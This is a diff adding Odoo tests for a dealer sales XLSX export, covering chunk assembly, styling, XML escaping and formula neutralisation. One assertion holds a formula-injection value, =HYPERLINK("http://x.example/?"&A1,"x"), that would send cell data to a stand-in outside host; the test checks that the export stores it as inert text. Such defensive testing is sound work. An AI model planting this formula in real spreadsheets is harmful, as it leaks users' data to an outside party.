@@ -1,15 +1,29 @@
 import io
-from datetime import datetime, timedelta
+import json
+import os
+import tempfile
+import zipfile
+from datetime import date, datetime, timedelta
 from unittest.mock import patch
 
 import openpyxl
 
 from odoo import Command, fields
 from odoo.exceptions import AccessError, UserError, ValidationError
-from odoo.tests import HttpCase, tagged
+from odoo.tests import BaseCase, HttpCase, tagged
+from odoo.tools import SQL
 
-from odoo.addons.dealer_report.models.dealer_report_export_request import DealerReportExportRequest
+from odoo.addons.dealer_base.tools import new_workbook, safe_text
+from odoo.addons.dealer_report.models.dealer_report_export_request import (
+    SALES_COLUMNS,
+    SALES_ROW_FIELDS,
+    SALES_ROW_NUMBERS,
+    SALES_SHEET_MEMBER,
+    SALES_STYLES,
+    DealerReportExportRequest,
+)
 from odoo.addons.dealer_report.tests.common import DealerReportCommon
+from odoo.addons.dealer_report.tools.sheet_xml import date_serial, renumber_rows, rows_xml, text_xml
 
 
 class ExportRequestCommon(DealerReportCommon):
@@ -306,3 +320,210 @@ class TestExportDownload(HttpCase, ExportRequestCommon):
         self.assertIn(response.status_code, (403, 404))
         self.assertFalse(response.content.startswith(b"PK"))
 
+
+@tagged("post_install", "-at_install")
+class TestExportSheet(ExportRequestCommon):
+    """The flat export's sheet, rendered by the chunks and assembled by the last step. On
+    top of the common rows: dealer A also bought item B this month and the second dealer
+    item A last month (five rows over two months); the second dealer's name holds XML
+    markup and a control character; two rows per chunk at most."""
+
+    @classmethod
+    def setUpClass(cls):
+        super().setUpClass()
+        now = fields.Datetime.now()
+        cls.last_month = cls.month - timedelta(days=1)
+        cls._confirmed(cls.dealer, now, [(cls.item_b, 2, 30.0)])
+        cls._confirmed(cls.dealer2, datetime.combine(cls.last_month, datetime.min.time()) + timedelta(hours=6),
+                       [(cls.item_a, 1, 100.0)])
+        cls.Analysis.refresh(full=True)
+        cls.dealer2.name = "<b>乙 & \x01"
+        cls.env["ir.config_parameter"].set_param("dealer_report.export_chunk_rows", "2")
+        cls.period = [("date", ">=", cls.last_month.replace(day=1).isoformat()),
+                      ("date", "<=", cls.month.isoformat())]
+
+    def _request(self):
+        return self._sales_request(date_from=self.last_month.replace(day=1), domain=self.period)
+
+    def _expected(self, request):
+        """The rows the sheet must hold, in order: each chunk's rows as the analysis gives them."""
+        request = request.sudo()
+        return [row for chunk in request.chunk_plan for row in request._dealer_export_sales_rows(chunk)]
+
+    @staticmethod
+    def _member(request, name):
+        with zipfile.ZipFile(io.BytesIO(request.sudo().attachment_id.raw)) as book:
+            return book.read(name)
+
+    def _xlsxwriter_book(self, request, rows):
+        """The workbook as xlsxwriter's constant memory mode writes ``rows`` (the export
+        before its chunks rendered the rows), as bytes."""
+        headers = request.sudo()._dealer_export_sales_headers(request.sudo()._dealer_export_user_env())
+        with tempfile.TemporaryDirectory() as directory:
+            path = os.path.join(directory, "reference.xlsx")
+            workbook = new_workbook(path, in_memory=False, constant_memory=True, tmpdir=directory)
+            bold = workbook.add_format({"bold": True, "bg_color": "#EFF6FF", "border": 1})
+            formats = {"month": workbook.add_format({"num_format": "yyyy-mm"}),
+                       "money": workbook.add_format({"num_format": "#,##0.00"}),
+                       "qty": workbook.add_format({"num_format": "#,##0.##"})}
+            columns = []
+            for fname in SALES_ROW_FIELDS:
+                columns.append(formats.get(SALES_ROW_NUMBERS.get(fname)))
+                if fname == "partner_id":
+                    columns.append(None)
+            sheet = workbook.add_worksheet("Channel Sales")
+            for col, header in enumerate(headers):
+                sheet.set_column(col, col, 12 if col == 0 else 18)
+                sheet.write_string(0, col, header, bold)
+            sheet.freeze_panes(1, 2)
+            for index, row in enumerate(rows, 1):
+                sheet.write_datetime(index, 0, date.fromisoformat(row[0]), formats["month"])
+                for col in range(1, len(row)):
+                    if isinstance(row[col], str):
+                        if row[col]:
+                            sheet.write_string(index, col, safe_text(row[col]))
+                    else:
+                        sheet.write_number(index, col, row[col], columns[col])
+            workbook.close()
+            with open(path, "rb") as handle:
+                return handle.read()
+
+    @staticmethod
+    def _as_read(text):
+        """A text as a reader reads it from the sheet: neutralized, with Excel's escape of a
+        control character (that Excel reads back, openpyxl not)."""
+        return safe_text(text).replace("\x01", "_x0001_")
+
+    def _assert_sheet(self, request, expected):
+        """The sheet holds the header, then exactly ``expected``: every value, type and number format."""
+        self.assertEqual(request.state, "done", request.error_message)
+        book = self._book(request)
+        self.assertEqual(book.sheetnames, ["Channel Sales"])
+        sheet = book.active
+        self.assertEqual(sheet.freeze_panes, "C2")
+        self.assertEqual(sheet.max_row, 1 + len(expected))
+        self.assertEqual(sheet.max_column, len(SALES_COLUMNS))
+        header = list(sheet[1])
+        self.assertEqual([cell.value for cell in header[:4]], ["Month", "Dealer", "Dealer Code", "Region"])
+        for cell in header:
+            self.assertTrue(cell.font.b)
+            self.assertEqual(cell.fill.fgColor.rgb, "FFEFF6FF")
+            self.assertEqual(cell.border.left.style, "thin")
+        self.assertEqual(round(sheet.column_dimensions["A"].width), 13)  # 12 and Excel's padding
+        self.assertEqual(round(sheet.column_dimensions["Q"].width), 19)
+        formats = {"date": "yyyy-mm", "text": "General"}
+        for number, (cells, row) in enumerate(zip(sheet.iter_rows(min_row=2), expected, strict=True), 2):
+            for col, (cell, (kind, style), value) in enumerate(zip(cells, SALES_COLUMNS, row, strict=True)):
+                where = "row %s col %s" % (number, col)
+                self.assertNotEqual(cell.data_type, "f", where)
+                if kind == "date":
+                    self.assertEqual(cell.value, datetime.fromisoformat(value), where)
+                elif kind == "text":
+                    self.assertEqual(cell.value, self._as_read(value) or None, where)
+                    self.assertEqual(cell.data_type, "s" if value else "n", where)
+                else:
+                    self.assertEqual(cell.value, value, where)
+                    self.assertEqual(cell.data_type, "n", where)
+                number_format = formats.get(kind) or ("#,##0.##" if style == SALES_STYLES["qty"] else "#,##0.00")
+                self.assertEqual(cell.number_format, number_format, where)
+        return sheet
+
+    def test_sheet_holds_every_row_in_order(self):
+        request = self._request()
+        self.assertEqual(request.row_total, 5)
+        self.assertEqual(sum(request.chunk_rows), 5)
+        self.assertGreaterEqual(len(request.chunk_plan), 2)
+        self.assertIn(2, request.chunk_rows)
+        self._run_cron()
+        expected = self._expected(request)
+        self.assertEqual(len(expected), self.Analysis.search_count(request.sudo()._dealer_export_domain()))
+        sheet = self._assert_sheet(request, expected)
+        # the dealers in the plan's order, each one's rows by month then product
+        dealers = [name for name, _code in sheet.iter_rows(min_row=2, min_col=2, max_col=3, values_only=True)]
+        names = self.env["res.partner"].browse([pid for chunk in request.chunk_plan for pid in chunk])
+        self.assertEqual(list(dict.fromkeys(dealers)), [self._as_read(name) for name in names.mapped("display_name")])
+        second = [row for row in sheet.iter_rows(min_row=2, values_only=True) if row[2] == self.dealer2.dealer_code]
+        self.assertEqual([row[0].date() for row in second], [self.last_month.replace(day=1), self.month])
+        # the formula-like name is text
+        formula_name = "'" + self.formula_dealer.display_name
+        self.assertIn(formula_name, dealers)
+
+    def test_sheet_is_the_one_xlsxwriter_writes(self):
+        request = self._request()
+        self._run_cron()
+        reference = self._xlsxwriter_book(request, self._expected(request))
+        with zipfile.ZipFile(io.BytesIO(reference)) as book:
+            members = {name: book.read(name) for name in book.namelist()}
+        with zipfile.ZipFile(io.BytesIO(request.sudo().attachment_id.raw)) as book:
+            self.assertEqual(book.namelist(), list(members))
+            for name in members:
+                if name != "docProps/core.xml":  # its creation time
+                    self.assertEqual(book.read(name), members[name], name)
+        sheet = members[SALES_SHEET_MEMBER].decode()
+        self.assertIn(' t="inlineStr"><is><t>\'=HYPERLINK("http://x.example/?"&amp;A1,"x")</t>', sheet)
+        self.assertIn("<t>&lt;b&gt;乙 &amp; _x0001_</t>", sheet)
+
+    def test_chunks_in_any_order_retried_or_misplanned(self):
+        expected = self._expected(self._request())
+        self.Request.sudo().search([]).unlink()
+        request = self._request().sudo()
+        # the rows of the chunks are not the planned ones (an analysis refresh in between):
+        # the last step moves them, no row is lost, doubled or left with a gap
+        request.chunk_rows = [7, 0] + request.chunk_rows[2:]
+        for chunk in reversed(request.chunk_plan + request.chunk_plan[:1]):
+            request._dealer_export_chunk(chunk)
+        self.assertEqual(len(request.part_ids), len(request.chunk_plan))
+        self.assertEqual(request.part_ids.sorted("sequence")[1].row_start, 9)
+        request._dealer_export_finish()
+        self._assert_sheet(request, expected)
+
+    def test_chunk_left_without_rows(self):
+        request = self._request()
+        expected = [row for row in self._expected(request) if row[2] != self.dealer2.dealer_code]
+        self.env.cr.execute(SQL("DELETE FROM dealer_sales_analysis WHERE partner_id = %s", self.dealer2.id))
+        self._run_cron()
+        self._assert_sheet(request, expected)
+
+    def test_parts_written_as_json_by_an_older_version(self):
+        request = self._request().sudo()
+        expected = self._expected(request)
+        request._dealer_export_chunk(request.chunk_plan[0])
+        for sequence, chunk in enumerate(request.chunk_plan[1:], 1):
+            self.env["dealer.report.export.part"].sudo().create({
+                "request_id": request.id, "sequence": sequence,
+                "data": json.dumps(request._dealer_export_sales_rows(chunk), ensure_ascii=False),
+            })
+        request._dealer_export_finish()
+        self._assert_sheet(request, expected)
+
+
+@tagged("post_install", "-at_install")
+class TestSheetXml(BaseCase):
+    """The rows rendered as SpreadsheetML (``dealer_report.tools.sheet_xml``)."""
+
+    def test_text(self):
+        self.assertEqual(text_xml("Dealer 1"), "<t>Dealer 1</t>")
+        self.assertEqual(text_xml("a<b>&c\"d"), '<t>a&lt;b&gt;&amp;c"d</t>')
+        self.assertEqual(text_xml(" lead"), '<t xml:space="preserve"> lead</t>')
+        self.assertEqual(text_xml("line\n"), '<t xml:space="preserve">line\n</t>')
+        # characters XML does not allow as Excel escapes them, and a literal escape kept literal
+        self.assertEqual(text_xml("a\x01b\rc"), "<t>a_x0001_b_x000D_c</t>")
+        self.assertEqual(text_xml("_x0041_"), "<t>_x005F_x0041_</t>")
+        self.assertEqual(text_xml("\ufffe"), "<t>_xFFFE_</t>")
+
+    def test_rows(self):
+        columns = [("date", 2), ("text", None), ("number", 4)]
+        xml = rows_xml([["2026-12-01", "=1+1", 2.5], [date(2026, 11, 1), "", 0]], 7, columns)
+        self.assertEqual(date_serial(date(2026, 12, 1)), 46357.0)
+        self.assertEqual(date_serial("1900-01-01"), 1.0)
+        self.assertEqual(
+            xml,
+            '<row r="7"><c r="A7" s="2"><v>46357</v></c><c r="B7" t="inlineStr"><is><t>\'=1+1</t></is></c>'
+            '<c r="C7" s="4"><v>2.5</v></c></row>'
+            '<row r="8"><c r="A8" s="2"><v>46327</v></c><c r="C8" s="4"><v>0</v></c></row>',
+        )
+        self.assertEqual(renumber_rows(xml, 3), rows_xml([["2026-12-01", "=1+1", 2.5], [date(2026, 11, 1), "", 0]],
+                                                         10, columns))
+        self.assertEqual(renumber_rows(xml, -5), rows_xml([["2026-12-01", "=1+1", 2.5], [date(2026, 11, 1), "", 0]],
+                                                          2, columns))
+        self.assertEqual(rows_xml([], 2, columns), "")
